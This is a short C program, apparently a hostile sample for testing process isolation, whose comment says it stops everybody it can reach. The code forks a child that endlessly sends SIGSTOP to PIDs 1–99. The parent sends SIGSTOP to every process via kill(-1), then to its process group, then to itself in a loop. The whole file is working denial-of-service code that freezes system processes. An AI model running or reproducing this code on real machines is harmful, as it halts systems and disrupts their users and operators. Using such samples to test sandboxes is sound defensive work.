// Stops everybody it can reach, itself last, and lets a child do the same for ever.
#include "hostile.h"

int main(void) {
    if (fork() == 0) {
        for (;;) {
            for (int number = 1; number < 100; number++) {
                if (number != getpid()) kill(number, SIGSTOP);
            }
        }
    }
    kill(-1, SIGSTOP);
    kill(0, SIGSTOP);
    for (;;) kill(getpid(), SIGSTOP);
}
